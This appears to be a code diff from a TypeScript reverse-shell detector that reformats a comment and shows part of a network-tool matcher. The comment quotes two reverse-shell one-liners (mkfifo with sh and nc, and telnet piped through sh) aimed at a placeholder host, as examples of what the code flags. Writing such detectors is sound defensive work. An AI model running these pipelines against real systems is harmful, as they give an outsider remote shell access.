@@ -40,7 +40,10 @@ const isNet = (item: Invocation): boolean =>
   NETCAT.test(item.tool) &&
   (item.tool !== 'openssl' || item.args[0]?.text === 's_client' || item.args[0]?.text === 's_server');
 
-/** A shell with a network program before or behind it in the pipeline: `mkfifo p; sh <p | nc h 1 >p`, `telnet h 1 | sh | telnet h 2`. */
+/**
+ * A shell with a network program before or behind it in the pipeline: `mkfifo p; sh <p | nc h 1
+ * >p`, `telnet h 1 | sh | telnet h 2`.
+ */
 const pipedToNet = (step: Step): boolean => {
   if (step.carries || !INTERPRETER.test(step.tool) || (step.code !== '' && !SHELL.test(step.tool))) return false;
   const interactive = SHELL.test(step.tool) && !step.args.some((arg) => !arg.startsWith('-'));
